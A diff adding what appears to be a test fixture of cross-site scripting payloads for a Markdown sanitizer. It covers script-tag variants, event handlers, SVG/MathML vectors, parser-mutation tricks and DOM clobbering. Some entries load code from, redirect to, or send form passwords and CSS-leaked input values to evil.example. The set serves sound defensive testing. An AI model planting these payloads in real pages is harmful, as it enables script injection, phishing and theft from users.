@@ -1,0 +1,166 @@
+import { CALL, each, named } from "./attack";
+
+const scripts = named("script", {
+  plain: `<script>${CALL}</script>`,
+  "upper case": `<SCRIPT>${CALL}</SCRIPT>`,
+  "with a type": `<script type="module">${CALL}</script>`,
+  "from elsewhere": `<script src="https://evil.example/x.js"></script>`,
+  "without a protocol": `<script src=//evil.example/x.js></script>`,
+  "from data": `<script src="data:text/javascript,${CALL}"></script>`,
+  "in a paragraph": `words <script>${CALL}</script> words`,
+  "in a list": `- <script>${CALL}</script>`,
+  "in a quote": `> <script>${CALL}</script>`,
+  "in a table": `| a |\n| - |\n| <script>${CALL}</script> |`,
+  "in a heading": `# <script>${CALL}</script>`,
+  "in a footnote": `[^a]\n\n[^a]: <script>${CALL}</script>`,
+  "in a link": `[<script>${CALL}</script>](https://example.com)`,
+  "in an image": `![<script>${CALL}</script>](https://example.com)`,
+  "in a title": `[a](https://example.com "</a><script>${CALL}</script>")`,
+  "split by a comment": `<scr<!-- -->ipt>${CALL}</scr<!-- -->ipt>`,
+  nested: `<scr<script>ipt>${CALL}</scr</script>ipt>`,
+  "with a line break": `<script\n>${CALL}</script\n>`,
+  "with a slash": `<script/x>${CALL}</script>`,
+  unclosed: `<script>${CALL}`,
+  "after a null": `<\0script>${CALL}</script>`,
+  "as entities": `&lt;script&gt;${CALL}&lt;/script&gt;`,
+  "as numbers": `&#60;script&#62;${CALL}&#60;/script&#62;`,
+  "in the language of code": `\`\`\`"><script>${CALL}</script>\ncode\n\`\`\``,
+  "out of code": `\`\`\`html\n</code></pre><script>${CALL}</script>\n\`\`\``,
+  "out of code in a line": `\`</code><script>${CALL}</script>\``,
+  "in a formula": `$$\\text{<script>${CALL}</script>}$$`,
+});
+
+const EVENTS = [
+  "onerror",
+  "onload",
+  "onclick",
+  "onmouseover",
+  "onfocus",
+  "onblur",
+  "onanimationstart",
+  "ontransitionend",
+  "ontoggle",
+  "onpointerenter",
+  "onbegin",
+  "onwheel",
+  "onpaste",
+  "onscroll",
+  "onhashchange",
+  "onmessage",
+  "onbeforetoggle",
+  "onauxclick",
+  "onformdata",
+  "onsecuritypolicyviolation",
+];
+const handlers = each("handler", EVENTS, (event) => `<img src=x ${event}="${CALL}" autofocus tabindex=1>`);
+
+const ELEMENTS = [
+  `<iframe src="javascript:parent.${CALL}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
+  `<object data="javascript:${CALL}"></object>`,
+  `<embed src="javascript:${CALL}">`,
+  `<form action="https://evil.example"><input name=password autofocus><button>Sign in</button></form>`,
+  `<input autofocus onfocus="${CALL}">`,
+  `<select autofocus onfocus="${CALL}"><option>a</select>`,
+  `<textarea autofocus onfocus="${CALL}"></textarea>`,
+  `<video><source onerror="${CALL}"></video>`,
+  `<audio src=x onerror="${CALL}">`,
+  `<details open ontoggle="${CALL}">x</details>`,
+  `<marquee onstart="${CALL}">x</marquee>`,
+  `<body onload="${CALL}">`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
+  `<link rel="stylesheet" href="https://evil.example/x.css">`,
+  `<dialog open>Sign in again</dialog>`,
+  `<template shadowrootmode="open"><script>${CALL}</script></template>`,
+  `<portal src="https://evil.example">`,
+  `<frameset onload="${CALL}">`,
+  `<button popovertarget="x" onclick="${CALL}">x</button>`,
+  `<isindex type=image src=1 onerror="${CALL}">`,
+];
+const elements = each("element", ELEMENTS, (element) => element);
+
+const foreign = each(
+  "foreign",
+  [
+    `<svg onload="${CALL}">`,
+    `<svg><script>${CALL}</script></svg>`,
+    `<svg><animate onbegin="${CALL}" attributeName=x dur=1s></svg>`,
+    `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
+    `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"></svg>`,
+    `<svg><foreignObject><body onload="${CALL}"></foreignObject></svg>`,
+    `<svg><set attributeName=onmouseover to="${CALL}"></svg>`,
+    `<svg><image href=x onerror="${CALL}"></svg>`,
+    `<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${CALL}">x</maction></math>`,
+    `<math href="javascript:${CALL}">x</math>`,
+    `<math><mtext><style><img src=x onerror="${CALL}"></style></mtext></math>`,
+    `<math><annotation-xml encoding="text/html"><script>${CALL}</script></annotation-xml></math>`,
+  ],
+  (element) => element,
+);
+
+const styles = each(
+  "style",
+  [
+    "<style>*{background:url(https://evil.example/?all)}</style>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
+    '<p style="position:fixed;inset:0;background:red">over the page</p>',
+    '<p style="background:url(https://evil.example)">x</p>',
+    '<div style="behavior:url(#default#time2)">x</div>',
+    `<div style="width:expression(${CALL})">x</div>`,
+    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>",
+    '<p class="fixed inset-0 z-50 bg-danger">over the page</p>',
+    "<style>:root{--accent:red}</style>",
+  ],
+  (element) => element,
+);
+
+const mutations = each(
+  "mutation",
+  [
+    `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
+    `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
+    `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
+    `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
+    `<textarea><img title="</textarea><img src=x onerror=${CALL}>">`,
+    `<!--><img src=x onerror=${CALL}>-->`,
+    `<![CDATA[<img src=x onerror=${CALL}>]]>`,
+    `<?xml <img src=x onerror=${CALL}> ?>`,
+    `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${CALL}>">]>`,
+    `<title><img src=x onerror=${CALL}></title>`,
+    `<plaintext><img src=x onerror=${CALL}>`,
+    `<select><template><img src=x onerror=${CALL}></template></select>`,
+    `<a href="\`"><img src=x onerror=${CALL}>\``,
+    `<img src="\`\`onerror=${CALL}">`,
+  ],
+  (element) => element,
+);
+
+const NAMES = [
+  "body",
+  "head",
+  "cookie",
+  "getElementById",
+  "location",
+  "attacked",
+  "__proto__",
+  "constructor",
+];
+const clobbering = [
+  ...each("clobbering", NAMES, (name) => `<form id="${name}" name="${name}"><input name="${name}"></form>`),
+  ...each("clobbering by a footnote", NAMES, (name) => `[^${name}]\n\n[^${name}]: note`),
+  ...each("clobbering by a definition", NAMES, (name) => `[${name}]\n\n[${name}]: https://example.com/`),
+];
+
+export const MARKUP = [
+  ...scripts,
+  ...handlers,
+  ...elements,
+  ...foreign,
+  ...styles,
+  ...mutations,
+  ...clobbering,
+];
